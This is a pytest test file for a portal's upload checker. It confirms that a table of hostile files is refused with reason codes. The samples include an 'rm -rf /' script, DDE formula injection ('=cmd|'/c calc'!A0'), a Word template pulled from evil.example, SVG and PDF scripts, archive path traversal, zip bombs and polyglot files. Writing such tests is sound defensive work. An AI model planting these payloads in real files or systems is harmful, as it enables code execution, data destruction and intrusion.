"""Every kind accepted, every hostile file refused with its reason, quickly."""

import time

import pytest

from sipo_portal.attachments.checking import (
    MOST_BYTES,
    FileRefused,
    check_file,
    clean_name,
)
from tests.sipo_portal.attachments.samples import (
    BOOK,
    JPEG,
    LETTER,
    PDF,
    archive,
    chunk,
    encrypted,
    packed_pdf,
    png,
)

XLSX, DOCX = archive(BOOK), archive(LETTER)
OFFICE = "application/vnd.openxmlformats-officedocument."


@pytest.mark.parametrize(
    ("name", "content", "media_type"),
    [
        ("报表.pdf", PDF, "application/pdf"),
        ("REPORT.PDF", PDF, "application/pdf"),
        ("packed.pdf", packed_pdf(b"<</Type/Page>>"), "application/pdf"),
        ("a.png", png(), "image/png"),
        ("a.jpg", JPEG, "image/jpeg"),
        ("a.jpeg", JPEG + b"\0\0", "image/jpeg"),
        ("a.xlsx", XLSX, OFFICE + "spreadsheetml.sheet"),
        ("a.docx", DOCX, OFFICE + "wordprocessingml.document"),
        (
            "link.docx",
            archive(
                LETTER
                | {
                    "word/_rels/document.xml.rels": b'<Relationships><Relationship Id="r1"'
                    b' Type="http://x/relationships/hyperlink" Target="https://example.org"'
                    b' TargetMode="External"/></Relationships>'
                }
            ),
            OFFICE + "wordprocessingml.document",
        ),
        ("a.csv", "名称,金额\n甲,-5\n乙,=1+1\n".encode(), "text/plain"),
        ("a.csv", "名称,金额\n甲,5\n".encode("gb18030"), "text/plain"),
        ("a.txt", b"\xef\xbb\xbfplain", "text/plain"),
    ],
)
def test_honest_files_are_taken_as_they_are(name: str, content: bytes, media_type: str) -> None:
    found = check_file(name, content)
    assert (found.name, found.media_type, found.content) == (name, media_type, content)


EXTERNAL_TEMPLATE = (
    b'<Relationships><Relationship Id="r1" Type="http://x/relationships/attachedTemplate"'
    b' Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)
HOSTILE = {
    "empty": ("a.pdf", b"", "empty"),
    "too large": ("a.pdf", PDF + b"0" * MOST_BYTES, "too_large"),
    "program": ("a.exe", b"MZ\x90\0", "kind_not_accepted"),
    "program as picture": ("a.png", b"MZ\x90\0" * 10, "other_content"),
    "program as text": ("a.csv", b"MZ\x90\0" * 10, "other_content"),
    "script as text": ("a.csv", b"#!/bin/sh\nrm -rf /\n", "active"),
    "web page": ("a.html", b"<html></html>", "kind_not_accepted"),
    "web page as text": ("a.txt", b"  <!DOCTYPE html><p>", "active"),
    "svg": ("a.svg", b"<svg xmlns='x'/>", "kind_not_accepted"),
    "svg script as picture": ("a.png", b"<svg onload='x'/>", "other_content"),
    "svg script as text": ("a.txt", b"<svg onload='alert(1)'/>", "active"),
    "pdf as picture": ("a.png", PDF, "other_content"),
    "picture as pdf": ("a.pdf", png(), "other_content"),
    "document as spreadsheet": ("a.xlsx", DOCX, "other_content"),
    "plain archive as document": ("a.docx", archive({"a.txt": b"x"}), "other_content"),
    "macro document": ("a.docm", DOCX, "kind_not_accepted"),
    "macros in a spreadsheet": (
        "a.xlsx",
        archive(BOOK | {"xl/vbaProject.bin": b"\xd0\xcf"}),
        "active",
    ),
    "macro content type": (
        "a.xlsx",
        archive(BOOK | {"[Content_Types].xml": b"<Types>sheet.macroEnabled.main</Types>"}),
        "active",
    ),
    "controls": ("a.docx", archive(LETTER | {"word/activeX/activeX1.bin": b"x"}), "active"),
    "embedded object": ("a.docx", archive(LETTER | {"word/embeddings/o.bin": b"x"}), "active"),
    "template from elsewhere": (
        "a.docx",
        archive(LETTER | {"word/_rels/settings.xml.rels": EXTERNAL_TEMPLATE}),
        "active",
    ),
    "entities": (
        "a.xlsx",
        archive(BOOK | {"xl/workbook.xml": b'<!DOCTYPE x [<!ENTITY a "b">]><workbook/>'}),
        "active",
    ),
    "dde field": (
        "a.docx",
        archive(LETTER | {"word/document.xml": b"<w:instrText>DDEAUTO c:\\cmd</w:instrText>"}),
        "active",
    ),
    "dde cell": ("a.csv", b"name,value\nx,=cmd|'/c calc'!A0\n", "active"),
    "dde cell, full width": ("a.csv", "x,＝cmd|'/c calc'!A0\n".encode(), "active"),
    "path upwards": ("a.xlsx", archive(BOOK | {"../../etc/x.xml": b"x"}), "unsafe_member"),
    "absolute path": ("a.xlsx", archive(BOOK | {"/etc/x.xml": b"x"}), "unsafe_member"),
    "drive": ("a.xlsx", archive(BOOK | {"c:/x.xml": b"x"}), "unsafe_member"),
    "bomb": ("a.xlsx", archive(BOOK | {"xl/a.xml": b"\0" * 50_000_000}), "unpacks_too_large"),
    "bomb of many": (
        "a.xlsx",
        archive(BOOK | {f"xl/{n}.xml": b"x" for n in range(2_001)}),
        "unpacks_too_large",
    ),
    "encrypted document": ("a.docx", encrypted(DOCX), "encrypted"),
    "broken archive": ("a.docx", DOCX[:-30], "damaged"),
    "archive behind a picture": ("a.png", png() + archive({"x": b"x"}), "two_in_one"),
    "archive behind a photograph": (
        "a.jpg",
        JPEG + archive({"x": b"x"}) + b"\xff\xd9",
        "two_in_one",
    ),
    "archive behind a pdf": ("a.pdf", PDF + archive({"x": b"x"}) + b"%%EOF", "two_in_one"),
    "pdf before an archive": ("a.docx", b"PK\x03\x04junk" + DOCX, "two_in_one"),
    "page inside a picture": ("a.png", png(extra=b"c\0<script>alert(1)</script>"), "two_in_one"),
    "monstrous picture": ("a.png", png(60_000, 60_000), "unpacks_too_large"),
    "picture with a wrong checksum": ("a.png", png()[:-1] + b"x", "damaged"),
    "picture without an end": ("a.png", png()[:-12], "damaged"),
    "picture without a header": ("a.png", b"\x89PNG\r\n\x1a\n" + chunk(b"IEND", b""), "damaged"),
    "photograph cut off": ("a.jpg", JPEG[:-2], "damaged"),
    "pdf cut off": ("a.pdf", PDF[:-6], "damaged"),
    "script in a pdf": ("a.pdf", PDF.replace(b"/Root", b"/OpenAction<</JS(x)>>/Root"), "active"),
    "escaped script": ("a.pdf", PDF.replace(b"/Root", b"/J#61vaScript(x)/Root"), "active"),
    "packed script": ("a.pdf", packed_pdf(b"<</S/JavaScript/JS(x)>>"), "active"),
    "attachment in a pdf": ("a.pdf", PDF.replace(b"/Root", b"/EmbeddedFiles 1/Root"), "active"),
    "launching pdf": ("a.pdf", PDF.replace(b"/Root", b"/Launch 1/Root"), "active"),
    "encrypted pdf": ("a.pdf", PDF.replace(b"/Root", b"/Encrypt 1 0 R/Root"), "encrypted"),
    "path in the name": ("../../a.pdf", PDF, "name_bad"),
    "hidden direction": ("a\u202efdp.pdf", PDF, "name_bad"),
    "no ending": ("report", PDF, "name_bad"),
    "only an ending": (".pdf", PDF, "name_bad"),
}


@pytest.mark.parametrize("case", HOSTILE)
def test_hostile_files_are_refused_with_a_reason_within_two_seconds(case: str) -> None:
    name, content, code = HOSTILE[case]
    # Of the processor: what else the machine is doing does not count.
    started = time.process_time()
    with pytest.raises(FileRefused) as refused:
        check_file(name, content)
    assert refused.value.code == code
    assert time.process_time() - started < 2


def test_a_file_cut_off_anywhere_is_refused() -> None:
    for name, content in (
        ("a.xlsx", XLSX),
        ("a.png", png()),
        ("a.jpg", JPEG),
        ("a.pdf", PDF.strip()),
    ):
        for length in range(len(content)):
            with pytest.raises(FileRefused):
                check_file(name, content[:length] if length else b"")


def test_long_names_keep_their_ending() -> None:
    assert clean_name("长" * 300 + ".pdf") == "长" * 116 + ".pdf"
